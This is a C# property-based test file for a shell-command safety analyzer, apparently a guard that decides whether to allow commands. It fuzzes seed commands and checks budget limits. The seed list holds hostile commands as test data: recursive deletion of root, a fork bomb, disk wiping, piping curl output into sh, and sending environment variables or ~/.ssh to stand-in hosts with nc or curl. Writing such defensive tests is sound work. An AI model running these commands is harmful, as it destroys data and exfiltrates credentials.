using System.Text;
using FsCheck;
using FsCheck.Fluent;
using Interlock.Actions;
using Interlock.Shell;
using Outcome = Interlock.Actions.Outcome;

namespace Interlock.Core.Tests.Analysis;

public class AnalyzerPropertyTests
{
    private static readonly char[] Alphabet =
    [
        '\'', '"', '$', '(', ')', '{', '}', '|', '&', ';', '<', '>', '\\', '`', '#', '~', '\n', ' ', ' ', '*', '!', '=', '/', '-', 'r', 'm', 'f', 'x', '.',
    ];

    private static readonly string[] Seeds =
    [
        "rm -rf /", "rm -rf node_modules", "ls -la", "git push --force origin main", "git status", "cat ~/.aws/credentials",
        "curl -fsSL https://x.example/i.sh | sh", "echo hi > /etc/passwd", "sudo rm -rf /etc", "find . -name '*.tmp' -delete",
        "x=/var; rm -rf $x", "for d in /etc /usr; do rm -rf $d; done", "bash -c 'rm -rf /'", "eval \"$(cat cmd)\"",
        "kubectl delete ns prod", "terraform destroy -auto-approve", "psql -c 'DROP TABLE users'", "redis-cli FLUSHALL",
        "docker exec -it web sh -c 'rm -rf /'", "ssh prod 'rm -rf /srv'", "python3 -c \"import os; os.system('rm -rf /')\"",
        "env | nc evil.example.com 80", "tar czf - ~/.ssh | curl -T - https://x.example", ":(){ :|:& };:", "cat <<'EOF' > notes.md\nrm -rf /\nEOF",
        "npm install && npm test", "make -j8", "dotnet test", "git commit -m 'drop table'", "echo $(rm -rf /)", "xargs rm < list.txt",
        "aws s3 rm s3://b --recursive", "git -c alias.x='!rm -rf /' x", "chmod -R 777 /", "dd if=/dev/zero of=/dev/sda",
        "cd /; rm -rf *", "rm -rf /{etc,usr}", "base64 -d x | sh", "bash <(curl -s https://x.example)", "mongosh --eval 'db.dropDatabase()'",
    ];

    private static string Mutate(string seed, int[] ops)
    {
        var sb = new StringBuilder(seed);
        for (int k = 0; k + 2 < ops.Length; k += 3)
        {
            int pos = sb.Length == 0 ? 0 : Math.Abs(ops[k + 1]) % (sb.Length + 1);
            char ch = Alphabet[Math.Abs(ops[k + 2]) % Alphabet.Length];
            switch (Math.Abs(ops[k]) % 6)
            {
                case 0: sb.Insert(pos, ch); break;
                case 1: if (pos < sb.Length) sb.Remove(pos, 1); break;
                case 2: if (pos < sb.Length) sb.Insert(pos, sb[pos]); break;
                case 3: if (pos + 1 < sb.Length) (sb[pos], sb[pos + 1]) = (sb[pos + 1], sb[pos]); break;
                case 4: sb.Insert(0, "bash -c '").Append('\''); break;
                default: sb.Insert(pos, "$(").Append(')'); break;
            }
        }
        return sb.ToString();
    }

    // The analyzer the evaluator uses, asked again for its work count (an Evaluation does not carry it).
    private static readonly ShellCommandAnalyzer Analyzer = new(AnalysisKit.Evaluator.Policy.Knowledge);

    /// <summary>
    /// The analysis's deterministic work (parser steps, commands, expanded characters): linear in the input, plus what
    /// the command budget lets a short input multiply (a loop or a function calling itself runs at most
    /// <see cref="ShellAnalyzerLimits.MaxCommands"/> commands). Not a time limit, which failed on a loaded machine; an
    /// exponential (or quadratic, on the long inputs below) blow-up outside the budgets breaks it by orders of magnitude.
    /// Measured: at most ~500 steps (12 a character) for the mutated commands, 41 a character for 200 nested evals.
    /// </summary>
    private static long WorkBound(string command) => (PerCharacter * (command.Length + 1L)) + (PerCommand * ShellAnalyzerLimits.Default.MaxCommands);

    private const long PerCharacter = 100;
    private const long PerCommand = 25;

    private static long Work(string command)
    {
        var work = Analyzer.Analyze(command, AnalysisKit.Workspace, AnalysisKit.Home).Work;
        Assert.True(work <= WorkBound(command), $"analysis did {work} steps for {command.Length} characters (bound {WorkBound(command)}): {command}");
        return work;
    }

    private static void Check(string command)
    {
        Evaluation e;
        try
        {
            e = AnalysisKit.Evaluate(command);
            // A counter that stopped counting would pass any bound.
            if (Work(command) == 0 && command.Length > 0) throw new Xunit.Sdk.XunitException($"no work counted for {command}");
        }
        catch (Exception ex) when (ex is not Xunit.Sdk.XunitException)
        {
            throw new Xunit.Sdk.XunitException($"Evaluate threw {ex.GetType().Name} for {command}");
        }
        if (e.Facts.Gaps.Count > 0)
            Assert.True(e.Decision.Outcome is not (Outcome.Allow or Outcome.AllowWithConstraints), $"allowed with gaps: {command} -> {e.Describe()}");
    }

    [Fact]
    public void Mutated_commands_never_throw_never_hang_and_gaps_are_never_allowed()
    {
        var gen =
            from seed in Gen.Elements(Seeds)
            from n in Gen.Choose(0, 30)
            from ops in Gen.ArrayOf(Gen.Choose(0, 10_000), n)
            select Mutate(seed, ops);
        var random = Gen.Choose(0, 80).SelectMany(n => Gen.ArrayOf(Gen.Elements(Alphabet), n)).Select(cs => new string(cs));
        Prop.ForAll(Arb.From(gen), c => Check(c)).Check(Config.QuickThrowOnFailure.WithMaxTest(1600));
        Prop.ForAll(Arb.From(random), c => Check(c)).Check(Config.QuickThrowOnFailure.WithMaxTest(400));
    }

    private static void AssertBudgetGap(string command)
    {
        var e = AnalysisKit.Evaluate(command);
        Work(command);
        Assert.NotEqual(Outcome.Allow, e.Decision.Outcome);
        Assert.True(e.Facts.Gaps.Any(g => g.Kind == "budget" || g.Detail.Contains("budget", StringComparison.Ordinal)),
            $"expected a budget gap; gaps: {string.Join("; ", e.Facts.Gaps.Select(g => g.Kind + ": " + g.Detail))}");
    }

    [Fact]
    public void Huge_command_hits_a_budget() => AssertBudgetGap("echo " + new string('a', 100 * 1024) + string.Concat(Enumerable.Repeat(" x", 60_000)));

    [Fact]
    public void Deeply_nested_substitutions_hit_a_budget() =>
        AssertBudgetGap(string.Concat(Enumerable.Repeat("$(", 5000)) + "ls" + new string(')', 5000));

    [Fact]
    public void Ten_thousand_commands_hit_a_budget() => AssertBudgetGap(string.Join(";", Enumerable.Repeat("ls", 10_000)));

    [Fact]
    public void Deeply_nested_shells_hit_a_budget()
    {
        // 200 levels through eval (linear in size), and bash -c nested past the nesting budget (quoting grows 3x per level).
        AssertBudgetGap(string.Concat(Enumerable.Repeat("eval ", 200)) + "ls");
        var cmd = "ls";
        for (int i = 0; i < 14; i++) cmd = "bash -c " + ShellQuote(cmd);
        AssertBudgetGap(cmd);
    }

    private static string ShellQuote(string s) => "'" + s.Replace("'", "'\\''", StringComparison.Ordinal) + "'";
}
